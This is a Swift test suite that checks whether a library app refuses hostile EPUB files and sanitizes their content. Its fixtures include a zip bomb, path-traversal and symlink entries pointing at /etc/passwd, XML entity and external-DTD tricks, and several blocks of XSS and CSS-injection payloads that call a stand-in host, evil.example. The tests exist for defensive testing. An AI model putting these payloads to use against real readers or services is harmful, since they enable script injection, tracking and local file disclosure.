import Foundation
@testable import Library
import SatchelAPI
import SatchelTesting
import Testing
import VaporTesting

/// shared/DESIGN.md invariant 6 for books: a corpus of hostile EPUBs built here is refused on
/// import with its reason, and what a book may contain is served inert.
@Suite("Hostile EPUBs")
struct HostileEPUBTests {
    static func refusal(_ book: BookFixture) throws -> String? {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("hostile-\(UUID().uuidString).epub").path
        defer { try? FileManager.default.removeItem(atPath: path) }
        try book.write(to: path)
        do {
            _ = try EPUBPackage.read(path: path)
            try Publication(file: path).validate()
            return nil
        } catch let invalid as EPUBPackage.Invalid {
            return invalid.reason
        }
    }

    @Test func theFixtureItselfIsAccepted() throws {
        #expect(try Self.refusal(BookFixture()) == nil)
    }

    @Test func aZipBombIsRefusedBeforeItIsInflated() throws {
        var book = BookFixture()
        book.rawEntries = [("OEBPS/zeros.txt", Data(count: 20 << 20), .file)]
        #expect(try Self.refusal(book)?.contains("zip bomb") == true)
    }

    @Test func anEntryClimbingOutOfTheBookIsRefused() throws {
        var book = BookFixture()
        book.rawEntries = [("../../etc/evil.xhtml", Data("x".utf8), .file)]
        #expect(try Self.refusal(book) == "the entry \"../../etc/evil.xhtml\" would be written outside the book")
    }

    @Test func anAbsoluteEntryIsRefused() throws {
        var book = BookFixture()
        book.rawEntries = [("/tmp/evil.xhtml", Data("x".utf8), .file)]
        #expect(try Self.refusal(book)?.contains("outside the book") == true)
    }

    @Test func aLinkEntryIsRefused() throws {
        var book = BookFixture()
        book.rawEntries = [("OEBPS/passwd", Data("/etc/passwd".utf8), .symlink)]
        #expect(try Self.refusal(book) == "the entry \"OEBPS/passwd\" is a link")
    }

    @Test func entityDeclarationsAreRefused() throws {
        var book = BookFixture()
        book.chapters[0] = "<p>&lol;</p>"
        book.packageDocument = """
            <?xml version="1.0"?><!DOCTYPE package [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>
            <package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata/><manifest/><spine/></package>
            """
        #expect(try Self.refusal(book)?.contains("declares XML entities") == true)
    }

    @Test func anOutsideDTDIsRefused() throws {
        var book = BookFixture()
        book.items = [("evil", "text/evil.xhtml", "application/xhtml+xml", Data("""
            <?xml version="1.0"?><!DOCTYPE html SYSTEM "file:///etc/passwd"><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>
            """.utf8))]
        #expect(try Self.refusal(book) == "OEBPS/text/evil.xhtml names an outside DTD (file:///etc/passwd)")
    }

    @Test func anImageThatIsReallyADocumentIsRefused() throws {
        var book = BookFixture()
        book.items = [("fake", "images/fake.png", "image/png", Data("<html><script>alert(1)</script></html>".utf8))]
        #expect(try Self.refusal(book) == "OEBPS/images/fake.png is not the image/png it says it is")
    }

    @Test func malformedXHTMLIsNotRefusedButReadAsHTMLWithAWarningNamingThePlace() throws {
        var book = BookFixture()
        book.chapters[1] = "<p>unclosed"
        #expect(try Self.refusal(book) == nil)
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("malformed-\(UUID().uuidString).epub").path
        defer { try? FileManager.default.removeItem(atPath: path) }
        try book.write(to: path)
        let warnings = try Publication(file: path).validate()
        #expect(warnings.count == 1)
        // The unclosed <p> is found where </body> ends: line 4, column 25 ("<body><p>unclosed</body>" is 24 characters).
        #expect(warnings.first?.hasPrefix("OEBPS/text/chapter2.xhtml is not well-formed XHTML (line 4, column 25") == true, "\(warnings)")
        #expect(warnings.first?.contains("an end tag that does not match the element it closes") == true, "\(warnings)")
    }

    @Test func aProcessingInstructionWithoutDataDoesNotCrashTheXMLParser() throws {
        // Foundation's XMLParser on Linux reads a NULL for `<?x?>` and crashes the process: the parse must never see one.
        guard case .success(let page) = MarkupElement.parse(Data("<html><?x?><p>a</p></html>".utf8)) else {
            Issue.record("a processing instruction is well-formed XML")
            return
        }
        #expect(page.text == "a")
        guard case .success = XMLElementNode.parse(Data("<?x?><package/>".utf8)) else {
            Issue.record("a processing instruction is well-formed XML")
            return
        }
        // Even where the parser recovers from an error, and the place it reports is in the page as written.
        let links = InBookLinks(paths: ["OEBPS/text/c.xhtml"])
        let recovered = try XHTMLSanitizer(links: links, path: "OEBPS/text/c.xhtml").sanitize(Data("<html a=\"<?x?>\"><p>b <?y?><c@d></p></html>".utf8))
        #expect(recovered.text.contains("<p>b </p>") && recovered.warning?.contains("line 1, column 10") == true, "\(recovered)")
        guard case .failure(let error) = MarkupElement.parse(Data("<html><?x?><p>a <b@c></p></html>".utf8)) else {
            Issue.record("<b@c> is not XML")
            return
        }
        #expect(error.line == 1 && error.column == 19, "\(error.message)")
    }

    @Test func aPageReadAsHTMLIsStillServedWithoutScriptsHandlersOrJavascriptURLs() throws {
        let links = InBookLinks(paths: ["OEBPS/text/c.xhtml", "OEBPS/images/a.png"])
        // Not XML (a bare <list@host>, an unquoted attribute, an unclosed paragraph): the HTML reading must be as inert.
        let hostile = """
            <html><head><script>steal()</script><base href="https://evil.example/"></head>
            <body onload=steal()><p onclick="steal()" style="background: url(https://evil.example/s.png)">Write to <list@host> now
            <a href="javascript:steal()">js</a> <a href=JaVaScRiPt:steal()>js2</a> <a href="https://evil.example/">out</a>
            <img src="../images/a.png" onerror="steal()"><img src=https://evil.example/t.gif>
            <iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x">
            <form action="https://evil.example/"><input name=pin><button>Go</button></form>
            <svg><script>steal()</script><a xlink:href="javascript:steal()"><text>svg link</text></a><foreignObject><p>hidden</p></foreignObject></svg>
            <script src="https://evil.example/x.js"/>
            <p>Kept text &amp; more</p>
            <SCRIPT>steal()</SCRIPT><noscript><img src=x onerror=steal()></noscript><style>@import url(https://evil.example/a.css);</style>
            </body></html>
            """
        let page = try XHTMLSanitizer(links: links, path: "OEBPS/text/c.xhtml").sanitize(Data(hostile.utf8))
        #expect(page.warning?.hasPrefix("OEBPS/text/c.xhtml is not well-formed XHTML (line ") == true, "\(page.warning ?? "none")")
        let out = page.text
        for banned in ["script", "steal", "onload", "onclick", "onerror", "evil.example", "javascript", "JaVaScRiPt", "iframe", "object",
                       "embed", "form", "input", "button", "@import", "foreignObject", "<base", "hidden"] {
            #expect(!out.contains(banned), "\(banned) survived")
        }
        for kept in ["Write to ", "Kept text &amp; more", "src=\"../images/a.png\"", ">js</a>"] {
            #expect(out.contains(kept), "\(kept) was lost")
        }
        // Served as well-formed XML, whatever the page was.
        if case .failure(let error) = MarkupElement.parse(Data(out.utf8)) { Issue.record("not well-formed: \(error.message)") }
    }

    @Test func aChapterIsServedWithoutScriptsHandlersFramesFormsOrRemoteURLs() throws {
        let links = InBookLinks(paths: ["OEBPS/text/c.xhtml", "OEBPS/images/a.png", "OEBPS/text/d.xhtml"])
        let hostile = """
            <?xml version="1.0" encoding="UTF-8"?>
            <!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">
            <html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head>
            <script>steal()</script><link rel="stylesheet" href="https://evil.example/x.css"/><base href="https://evil.example/"/>
            <style>@import url(https://evil.example/a.css); p { background: url('https://evil.example/t.png'); color: red }
            h1 { background: u\\72l(https://evil.example/esc.png) } b { width: expression(alert(1)) }</style>
            </head><body onload="steal()">
            <p epub:type="bodymatter" onclick="steal()" style="background-image: url(//evil.example/s.png)">Hej&nbsp;då &amp; välkommen</p>
            <a href="javascript:steal()">js</a> <a href="https://evil.example/">out</a> <a href="d.xhtml#n1">next</a>
            <img src="../images/a.png" alt="ok"/><img src="https://evil.example/track.gif"/><img src="data:image/png;base64,AAAA"/>
            <iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x"/>
            <form action="https://evil.example/"><input name="pin"/><button>Go</button></form>
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>steal()</script>
            <image xlink:href="../images/a.png" width="10" height="10"/><image xlink:href="https://evil.example/x.png"/>
            <a xlink:href="javascript:steal()"><text>svg link</text></a><foreignObject><p>hidden</p></foreignObject></svg>
            <math xmlns="http://www.w3.org/1998/Math/MathML"><mi>x</mi></math>
            </body></html>
            """
        let out = try XHTMLSanitizer(links: links, path: "OEBPS/text/c.xhtml").sanitize(Data(hostile.utf8)).text
        for banned in ["script", "steal", "onload", "onclick", "evil.example", "javascript", "iframe", "object", "embed", "form",
                       "input", "button", "expression", "@import", "data:image", "foreignObject", "<base"] {
            #expect(!out.contains(banned), "\(banned) survived")
        }
        for kept in ["Hej\u{A0}då &amp; välkommen", "epub:type=\"bodymatter\"", "src=\"../images/a.png\"", "href=\"d.xhtml#n1\"",
                     "xlink:href=\"../images/a.png\"", "color: red", "\nx\n"] {
            #expect(out.contains(kept), "\(kept) was lost")
        }
        // The result is itself well-formed XML.
        if case .failure(let error) = MarkupElement.parse(Data(out.utf8)) { Issue.record("not well-formed: \(error.message)") }
    }

    @Test func styleSheetsLoseRemoteURLsImportsAndEscapedTricks() {
        let links = InBookLinks(paths: ["S/a.css", "I/p.png"])
        let css = CSSSanitizer.clean("""
            @import "https://evil.example/x.css"; /* url(https://evil.example/comment.png) */
            a { background: url(../I/p.png) } b { background: url("https://evil.example/b.png") }
            c { background: \\75 rl(https://evil.example/c.png) } d { -moz-binding: url(x.xml#xss); behavior: url(x.htc) }
            @font-face { src: url(https://evil.example/f.woff) }
            """) { links.keep($0, from: "S/a.css") != nil }
        #expect(!css.contains("evil.example") && !css.contains("@import") && !css.contains("binding") && !css.contains("behavior"))
        #expect(css.contains("url(\"../I/p.png\")"))
    }

    @Test func linksResolveOnlyToFilesOfTheBook() {
        let links = InBookLinks(paths: ["OEBPS/text/a.xhtml", "OEBPS/images/b 1.png"])
        #expect(links.resolve("../images/b%201.png", from: "OEBPS/text/a.xhtml")?.path == "OEBPS/images/b 1.png")
        #expect(links.resolve("#n2", from: "OEBPS/text/a.xhtml")?.fragment == "n2")
        for hostile in ["../../../etc/passwd", "/etc/passwd", "https://evil.example/", "//evil.example/x", "javascript:alert(1)",
                        "JaVaScRiPt:alert(1)", "data:text/html,x", "missing.xhtml", "..\\..\\x"] {
            #expect(links.resolve(hostile, from: "OEBPS/text/a.xhtml") == nil, "\(hostile)")
        }
    }

    @Test func aHostileBookIsReportedAndSkippedByTheImport() async throws {
        try await withSatchel { t in
            let library = try await TestLibrary.make(t)
            var book = BookFixture()
            book.rawEntries = [("../evil.xhtml", Data("x".utf8), .file)]
            let folder = FileManager.default.temporaryDirectory.appendingPathComponent("hostile-\(UUID().uuidString)").path
            try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
            defer { try? FileManager.default.removeItem(atPath: folder) }
            try book.write(to: folder + "/evil.epub")
            let report = try await t.context.catalogueImport(library.record).importEPUBs(directory: folder, copies: 1)
            #expect(report.inserted == 0)
            #expect(report.skipped.map(\.reason) == ["the entry \"../evil.xhtml\" would be written outside the book"])
        }
    }
}
